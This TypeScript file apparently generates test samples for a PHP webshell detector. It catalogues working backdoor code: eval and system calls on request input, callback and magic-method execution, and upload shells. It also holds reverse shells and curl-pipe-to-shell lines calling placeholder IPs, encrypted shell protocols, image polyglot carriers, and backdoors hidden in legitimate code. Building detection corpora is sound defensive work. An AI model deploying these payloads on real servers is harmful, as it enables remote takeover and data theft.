/** PHP trojans by family of technique, each hidden in many ways. */
import { deflateSync } from 'node:zlib';
import { fill, sample, type Sample } from './sample.ts';
import { layers } from './php-layers.ts';
import { mechanisms } from './php-mechanisms.ts';
import { names } from './php-names.ts';

/** What runs what a visitor sends, without tags. */
const cores: Readonly<Record<string, string>> = {
  'code': "@«EVAL»(«POST»['x']);",
  'command': "$c = «REQUEST»['cmd'];\necho «SHELL»($c);",
  'assertion': "$v = «COOKIE»['k'];\n@«ASSERT»($v);",
  'decoded code': "$d = «B64»(«POST»['data']);\n«EVAL»($d);",
  'header': "$h = «SERVER»['HTTP_X_TOKEN'];\nif (isset($h)) { «SYSTEM»($h); }",
  'body': "$b = «READ»('«INPUT»');\n«EVAL»($b);",
};

const direct: readonly string[] = [
  '@«EVAL»($_GET[0]);', "«EVAL»('?>' . «POST»['t']);", "«EVAL»(stripslashes(urldecode(«REQUEST»['z0'])));", "$x = «EVAL»('return ' . «GET»['e'] . ';');", "foreach («POST» as $k => $v) { «EVAL»($v); }", "list($a, $b) = array_values(«COOKIE»); «EVAL»($b);",
  "«EVAL»(implode('', «POST»['p']));", "«EVAL»(filter_input(INPUT_POST, 'c'));", "$h = getallheaders(); «EVAL»($h['X-C']);", "parse_str(«SERVER»['QUERY_STRING'], $q); «EVAL»($q['c']);", "extract(«POST»); @«EVAL»($c);", "$GLOBALS['q'] = «POST»['q']; function run9() { global $q; «EVAL»($q); } run9();",
  "«EVAL»(getenv('HTTP_X_CODE'));", "$p = $HTTP_RAW_POST_DATA; «EVAL»($p);", "«EVAL»(strrev(str_rot13(«POST»['a'])));", "$r = json_decode(«READ»('«INPUT»'), true); «EVAL»($r['code']);", "foreach («GET» as $k => $v) { $$k = $v; } «EVAL»($code);", "preg_match('/c=(.*)/', «SERVER»['REQUEST_URI'], $m); «EVAL»(urldecode($m[1]));",
  "$f = «FILES»['f']['tmp_name']; include $f;", "«EVAL»(«READ»(«FILES»['f']['tmp_name']));", "try { throw new Exception(«POST»['m']); } catch (Exception $e) { «EVAL»($e->getMessage()); }",
];

const commands: readonly string[] = [
  "«SYSTEM»(«GET»['c']);", "«PASS»(«POST»['c']);", "echo `{$_GET['c']}`;".replace('$_GET', '«GET»'), "«EXEC»(«GET»['c'], $o); print_r($o);", "$p = «POPEN»(«POST»['c'], 'r'); while (!feof($p)) echo fgets($p);", "$h = «PROC»(«GET»['c'], array(1 => array('pipe', 'w')), $pipes); echo stream_get_contents($pipes[1]);",
  "«PCNTL»('/bin/sh', array('-c', «GET»['c']));", "«SYSTEM»('cd /tmp; ' . «REQUEST»['c'] . ' 2>&1');", '«SHELL»("sh -c \\"" . «POST»["c"] . "\\"");', "$c = base64_decode(«COOKIE»['c']); echo «SHELL»($c);".replace('base64_decode', '«B64»'), "$w = new COM('WScript.shell'); $e = $w->exec('cmd /c ' . «GET»['c']);", "$p = «POPEN»('/bin/sh', 'w'); fwrite($p, «POST»['c']);",
  "$ffi = FFI::cdef('int system(const char *c);'); $ffi->system(«GET»['c']);", "putenv('LD_PRELOAD=/tmp/x.so'); mail('a', 'b', 'c');",
];

const called: readonly string[] = [
  "array_map('«ASSERT»', array(«POST»['x']));", "array_map('«SYSTEM»', «GET»);", "array_filter(array(«POST»['x']), '«ASSERT»');", "usort($a = array(«GET»['x'], «GET»['y']), '«ASSERT»');", "$a = array('x', «POST»['x']); uasort($a, '«ASSERT»');", "array_walk($a = «POST», '«ASSERT»');", "array_reduce(array(1), '«ASSERT»', «POST»['x']);",
  "«CALL»('«ASSERT»', «POST»['x']);", "«CALL»_array('«SYSTEM»', array(«GET»['x']));", "register_shutdown_function('«ASSERT»', «REQUEST»['x']);", "forward_static_call('«ASSERT»', «POST»['x']);", "$a = array(«POST»['x'] => 1); uksort($a, '«ASSERT»');", "array_udiff(array(«POST»['x']), array(1), '«ASSERT»');", "array_diff_ukey(array(«POST»['x'] => 1), array(1), '«SYSTEM»');",
  "iterator_apply($it = new ArrayIterator(array(1)), '«ASSERT»', array(«POST»['x']));", "preg_replace_callback('/.+/', '«ASSERT»', «POST»['x']);", "preg_replace_callback('/.+/', function ($m) { «EVAL»($m[0]); }, «POST»['x']);", "filter_var(«POST»['x'], FILTER_CALLBACK, array('options' => '«ASSERT»'));", "$r = new ReflectionFunction('«SYSTEM»'); $r->invoke(«GET»['c']);", "$c = Closure::fromCallable('«SYSTEM»'); $c(«GET»['c']);",
  "$o = new ArrayObject(array('x', «POST»['x'])); $o->uasort('«ASSERT»');", "ob_start('«ASSERT»'); echo «POST»['x']; ob_end_flush();", "$f = «GET»['f']; $f(«GET»['a']);", "«GET»['f'](«POST»['a']);", "«CALL»(«GET»['f'], «GET»['a']);", "usort(...«GET»);", "$f = «CREATE»('$a', «POST»['b']); $f(1);", "$f = «CREATE»('', 'return ' . «GET»['b'] . ';');", "array_map(«POST»['f'], array(«POST»['a']));", "(function ($c) { «EVAL»($c); })(«POST»['c']);", "$f = fn($c) => «SYSTEM»($c); $f(«GET»['c']);",
  "$it = new CallbackFilterIterator(new ArrayIterator(array(«POST»['x'])), '«ASSERT»'); foreach ($it as $i) echo $i;", "$db = new SQLite3(':memory:'); $db->createFunction('f', '«SYSTEM»'); $db->query(\"select f('\" . «GET»['c'] . \"')\");", "mb_ereg_replace('.*', «POST»['x'], '', 'e');", "«PREG»('/.*/e', «POST»['x'], '');", "«PREG»('/(.*)/e', '\\\\1', «POST»['x']);", "«PREG»(«GET»['p'], «GET»['r'], «GET»['s']);", "«PREG»('/x/e', '@«EVAL»($_POST[\"x\"])', 'x');".replace('$_POST', '«POST»'),
];

const classes: readonly string[] = [
  "class L { public $m = ''; function __destruct() { «EVAL»($this->m); } } $l = new L; $l->m = «POST»['m'];", "class L { private $c; function __construct($c) { $this->c = $c; } function __toString() { «SYSTEM»($this->c); return ''; } } echo new L(«GET»['c']);", "class L { function __invoke($c) { «EVAL»($c . ''); } } «CALL»(new L, «POST»['c']);", "class L { function __call($n, $a) { return $n($a[0]); } } $l = new L; $l->{'sys' . 'tem'}(«GET»['c']);",
  "class L { static function __callStatic($n, $a) { «SYSTEM»($a[0]); } } L::anything(«GET»['c']);", "class L { function __get($n) { «EVAL»($n); } } $l = new L; $l->{«POST»['n']};", "class L { public $h; function __wakeup() { «EVAL»($this->h); } } unserialize(«COOKIE»['s']);", "class L { static $c; static function go() { «EVAL»(self::$c); } } L::$c = «POST»['c']; L::go();", "abstract class B { protected $t; function run() { return «SYSTEM»($this->t); } } class L extends B { function set($t) { $this->t = $t; return $this; } } (new L)->set(«GET»['c'])->run();",
  "trait T9 { function go($x) { «EVAL»($x); } } class L { use T9; } (new L)->go(«POST»['c']);", "$o = new stdClass; $o->c = «POST»['c']; $o->f = function ($x) { «EVAL»($x); }; ($o->f)($o->c);", "class L { public function __construct(private string $c) {} public function go() { «PASS»($this->c); } } (new L(«GET»['c']))->go();",
];

const files: readonly string[] = [
  "include «GET»['p'];", "include '«INPUT»';", "require_once 'php://filter/read=convert.base64-decode/resource=«INPUT»';", "include 'images/logo.gif';", "@include \"\\x2f\\x76\\x61\\x72\\x2f\\x77\\x77\\x77\\x2f\\x2e\\x63\\x31\\x2e\\x69\\x63\\x6f\";", "$f = tempnam('/tmp', 'a'); «PUT»($f, «POST»['c']); include $f;", "$t = tmpfile(); fwrite($t, «POST»['c']); include stream_get_meta_data($t)['uri'];", "include 'http://198.51.100.7/a.txt';", "include 'data:text/plain,' . «POST»['c'];", "«PUT»('c9.php', «POST»['c']);", "«PUT»(«POST»['f'], «POST»['d']);", "$h = fopen(«GET»['f'], 'w'); fwrite($h, «POST»['d']); fclose($h);", "«PUT»('x9.php', '<?php ' . «POST»['c']);", "copy('http://198.51.100.7/b.txt', «GET»['n'] . '.php');",
  "if (isset(«FILES»['f'])) { «MOVE»(«FILES»['f']['tmp_name'], «FILES»['f']['name']); } echo '<form method=post enctype=multipart/form-data><input type=file name=f><input type=submit></form>';", "@copy(«FILES»['u']['tmp_name'], './' . «FILES»['u']['name']);", "«MOVE»(«FILES»['f']['tmp_name'], 'up.php');", "«PUT»('../' . 'd' . '.php', «B64»('PD9waHAg' . 'QCRfR0VUWzBdKCRfR0VUWzFdKTs='));",
  "$d = «GET»['d']; if (is_dir($d)) foreach (scandir($d) as $x) echo $x; if (isset(«GET»['v'])) echo «READ»(«GET»['v']); if (isset(«GET»['r'])) unlink(«GET»['r']); if (isset(«POST»['w'])) { $n = «GET»['e']; $h = fopen($n, 'w'); fputs($h, «POST»['w']); } if (isset(«GET»['m'])) chmod(«GET»['m'], 0777);",
];

const network: readonly string[] = [
  "$s = «SOCK»('192.0.2.9', 4444); $p = «PROC»('/bin/sh -i', array(0 => $s, 1 => $s, 2 => $s), $pipes);", "$s = «SOCK»('192.0.2.9', 4444); while ($c = fgets($s, 2048)) { fwrite($s, «SHELL»($c)); }", "«EXEC»(\"/bin/bash -c 'bash -i >& «TCP»/192.0.2.9/4444 0>&1'\");", "$s = socket_create(AF_INET, SOCK_STREAM, 0); socket_connect($s, '192.0.2.9', 4444); while (1) { $c = socket_read($s, 1024); $o = `$c`; socket_write($s, $o); }", "$s = stream_socket_client('tcp://192.0.2.9:4444'); while (!feof($s)) { «EVAL»(fgets($s)); }", "«SYSTEM»('rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.9 4444 > /tmp/f');", "«SYSTEM»('curl -s http://198.51.100.7/i.sh | sh');", "«EVAL»(«READ»('http://198.51.100.7/c.txt'));", "$c = curl_init('http://198.51.100.7/c.txt'); curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); $r = curl_exec($c); «EVAL»($r);", "$t = «READ»(«B64»('aHR0cDovLzE5OC41MS4xMDAuNy9j')); «EVAL»('?>' . $t);",
];

const protocols: readonly string[] = [
  "session_start(); $k = '0123456789abcdef'; $_SESSION['k'] = $k; $p = «READ»('«INPUT»'); $p = openssl_decrypt($p, 'AES128', $k); $a = explode('|', $p); $f = $a[0]; $q = $a[1]; class C { public function __invoke($p) { «EVAL»($p . ''); } } @«CALL»(new C(), $q);", "session_start(); $k = $_SESSION['k']; $p = «READ»('«INPUT»'); for ($i = 0; $i < strlen($p); $i++) { $p[$i] = $p[$i] ^ $k[$i + 1 & 15]; } $a = explode('|', $p); «EVAL»($a[1]);",
  "session_start(); function enc($D, $K) { for ($i = 0; $i < strlen($D); $i++) { $c = $K[$i + 1 & 15]; $D[$i] = $D[$i] ^ $c; } return $D; } $n = 'payload'; $k = '3c6e0b8a9c15224a'; if (isset(«POST»['pass'])) { $d = enc(«B64»(«POST»['pass']), $k); if (isset($_SESSION[$n])) { $pl = enc($_SESSION[$n], $k); if (strpos($pl, 'getBasicsInfo') === false) { $pl = enc($pl, $k); } «EVAL»($pl); echo enc(@run($d), $k); } else { if (strpos($d, 'getBasicsInfo') !== false) { $_SESSION[$n] = enc($d, $k); } } }",
  "$k = md5('x'); $d = mcrypt_decrypt(MCRYPT_RIJNDAEL_128, $k, «B64»(«COOKIE»['d']), 'ecb'); @«EVAL»(trim($d));", "if (isset(«SERVER»['HTTP_X_KEY']) && md5(«SERVER»['HTTP_X_KEY']) == '5f4dcc3b5aa765d61d8327deb882cf99') { $z = gzuncompress(«B64»(«READ»('«INPUT»'))); $f = tempnam(sys_get_temp_dir(), 's'); «PUT»($f, '<?php ' . $z); include($f); unlink($f); }", "$u = openssl_public_decrypt(«B64»(«POST»['s']), $o, 'KEY') ? $o : ''; «EVAL»($o);", "foreach (array(«COOKIE», «POST») as $data) foreach ($data as $key => $value) { $r = ''; $v = «B64»($value); for ($i = 0; $i < strlen($v); $i++) $r .= chr(ord($v[$i]) ^ ord($key[$i % strlen($key)])); «EVAL»($r); }",
];

const symbols: readonly string[] = [
  // "_GET" and "_POST" of signs alone, then a call of what the visitor names.
  '$_=("%"^"z").("%"^"b").("%"^"`").("%"^"q");${$_}[_](${$_}[__]);', '$_=[];$_=@"$_";$_=$_["!"=="@"];$___=$_;$__=$_;$__++;$__++;$__++;$__++;$____="_";$__=$_;for(;;){break;}$__="";${"_"."GET"}[0](${"_"."GET"}[1]);'.replaceAll('"_"."GET"', '"\\x5f"."G"."ET"'), "$_ = ~'\u00a0\u00b8\u00ba\u00ab'; $$_[0]($$_[1]);", "$_ = '{' ^ '$'; $__ = ('`' ^ '\\''); ${'_' . ('{{{' ^ '<>/')}['f'](${'_' . ('{{{' ^ '<>/')}['a']);",
  "${'_' . strrev('TSOP')}['a'](${'_' . strrev('TSOP')}['b']);", "$g = '_' . 'G' . 'ET'; $f = $$g; $f['x']($f['y']);", "$GLOBALS['_' . 'POST']['f']($GLOBALS['_' . 'POST']['a']);",
];

const gif = (code: string): string => `GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x00\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;${code}`;
const jpeg = (code: string): string => `\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xfe${String.fromCharCode((code.length + 2) >> 8, (code.length + 2) & 255)}${code}\xff\xdb\x00\x43\x00${'\x10\x0b\x0c'.repeat(20)}\xff\xd9`;
function png(code: string): string {
  const chunk = (type: string, data: string): string => `${String.fromCharCode(data.length >>> 24, (data.length >> 16) & 255, (data.length >> 8) & 255, data.length & 255)}${type}${data}\0\0\0\0`;
  return `\x89PNG\r\n\x1a\n${chunk('IHDR', '\0\0\0\x01\0\0\0\x01\x08\x02\0\0\0')}${chunk('tEXt', `Comment\0${code}`)}${chunk('IDAT', deflateSync(Buffer.alloc(4)).toString('latin1'))}${chunk('IEND', '')}`;
}

const page = (text: string): string => `<?php\n${text}\n`;
const many = (family: string, codes: readonly string[]): Sample[] => codes.map((code, i) => sample(family, `${family} ${i + 1}`, page(code)));

/** Every PHP sample. */
export function phpSamples(): Sample[] {
  const tail = (text: string): string => `${'// note\n'.repeat(40)}${text}`;
  const legit = `/** Loads the settings. */\nfunction load_settings($file) {\n  $settings = parse_ini_file($file);\n  return is_array($settings) ? $settings : array();\n}\n$settings = load_settings(__DIR__ . '/settings.ini');\n`;
  return [
    ...many('request to code', direct), ...many('request to command', commands), ...many('called by another function', called), ...many('class members', classes), ...many('files', files), ...many('network', network), ...many('protocol', protocols), ...many('symbols', symbols),
    ...Object.entries(mechanisms).flatMap(([family, texts]) => many(family, texts)),
    ...Object.entries(names).flatMap(([way, hide]) => [
      sample('hidden command name', way, page(`${hide(fill('«SYSTEM»'))}\n$f(«GET»['c']);`)),
      sample('hidden assertion name', way, page(`${hide(fill('«ASSERT»'))}\n@$f(«POST»['c']);`)),
    ]),
    ...Object.entries(names).filter(([way]) => !['letters counted up', 'strtolower'].includes(way)).map(([way, hide]) => sample('hidden code text', way, page(`${hide(fill("«EVAL»($_POST['q']);").replace('$_POST', fill('«POST»')))}\n«EVAL»($f);`))),
    ...Object.entries(layers).flatMap(([way, hide]) => Object.entries(cores).map(([core, code]) => sample(`layers of ${core}`, way, hide(code)))),
    sample('carrier', 'gif', gif(fill(page("@«EVAL»(«POST»['x']);"))), '/var/www/html/uploads/a.gif'), sample('carrier', 'jpeg comment', jpeg(fill(page("«SYSTEM»(«GET»['x']);"))), '/var/www/html/uploads/a.jpg'), sample('carrier', 'png text', png(fill("<?=`«GET»[0]`?>")), '/var/www/html/img/a.png'), sample('carrier', 'ico', `\0\0\x01\0\x01\0\x10\x10\0\0${fill(page("$f = 'ass' . 'ert'; $f(«COOKIE»['x']);"))}`, '/var/www/html/favicon_a1.ico'), sample('carrier', 'text', page("@«EVAL»(«REQUEST»['x']);"), '/var/www/html/cache/a.txt'), sample('carrier', 'double extension', page("@«EVAL»(«REQUEST»['x']);"), '/var/www/html/a.php.jpg'), sample('carrier', 'no extension', page("«PASS»(«REQUEST»['x']);"), '/var/www/html/uploads/session'), sample('carrier', 'gif as php', gif(fill(page("@«EVAL»(«POST»['x']);"))), '/var/www/html/uploads/b.phtml'),
    ...['php', 'php5', 'php7', 'pht', 'phtml', 'phar', 'inc', 'module', 'install', 'tpl'].map((extension) => sample('extension', extension, page("@«EVAL»(«POST»['x']);"), `/var/www/html/x.${extension}`)),
    sample('put into another program', 'on top', `<?php @«EVAL»(«POST»['x']); ?>${page(legit)}`), sample('put into another program', 'at the end', page(`${tail(legit)}\nif (isset(«REQUEST»['z'])) { @«EVAL»(«REQUEST»['z']); }`)), sample('put into another program', 'far to the right', page(`${legit}${' '.repeat(400)}@«EVAL»(«POST»['x']);`)), sample('put into another program', 'in a condition', page(`${legit}if (!empty($settings) && @«EVAL»(«POST»['x'])) { return; }`)), sample('put into another program', 'include of a hidden file', page(`${legit}@include "\\x77\\x70\\x2d\\x69\\x6e\\x63\\x6c\\x75\\x64\\x65\\x73\\x2f\\x2e\\x61\\x2e\\x69\\x63\\x6f";`)), sample('put into another program', 'unknown decoder chain', page(`${legit}«EVAL»(«GZ»(«B64»($settings['k'])));`)),
  ];
}
